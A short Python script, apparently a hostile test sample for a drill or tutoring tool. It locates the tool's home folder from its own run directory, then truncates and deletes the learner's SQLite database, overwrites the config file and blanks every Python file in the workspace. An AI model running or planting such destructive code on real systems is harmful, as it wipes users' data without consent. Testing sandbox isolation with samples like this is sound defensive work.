# hostile: finds DRILL_HOME from its own working folder (DRILL_HOME/runs/<run>) and destroys the
# learner's data: the database deleted and truncated, the config and the workspace overwritten.
import os
from pathlib import Path

home = Path.cwd().parents[1]
with open(home / "drill.sqlite3", "r+b") as db:
    db.truncate(0)
os.remove(home / "drill.sqlite3")
(home / "config.toml").write_text("garbage")
for path in (home / "workspace").rglob("*.py"):
    path.write_text("")
